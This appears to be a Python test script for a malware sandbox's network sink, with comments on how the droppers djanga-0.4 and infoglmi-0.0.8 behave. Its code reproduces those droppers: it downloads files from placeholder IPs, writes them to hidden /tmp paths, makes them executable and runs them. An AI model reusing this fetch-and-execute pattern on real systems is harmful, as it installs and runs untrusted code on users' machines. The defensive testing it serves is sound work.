# Python droppers that fetch their program by name with a library, write
# it, make it executable and run it: djanga-0.4 (http.client, no
# User-Agent: GET /out, written to ~/.drv and run) and infoglmi-0.0.8
# (requests: GET /node, written to /tmp/node and run with its config).
# Before, the sink answered a library's GET of a name without extension
# with an empty 200, and what ran was the empty file the dropper wrote.
import http.client, os, stat, subprocess, urllib.request

c = http.client.HTTPConnection("198.51.100.31", timeout=5)
c.request("GET", "/out")
data = c.getresponse().read()
p = "/tmp/.agent"
with open(p, "wb") as f:
    f.write(data)
os.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)
os.system(p)

data = urllib.request.urlopen("http://198.51.100.32/bin/worker", timeout=5).read()
with open("/tmp/.worker", "wb") as f:
    f.write(data)
os.chmod("/tmp/.worker", 0o755)
subprocess.run(["/tmp/.worker", "-c", ".worker.json"])
print("droppers done")
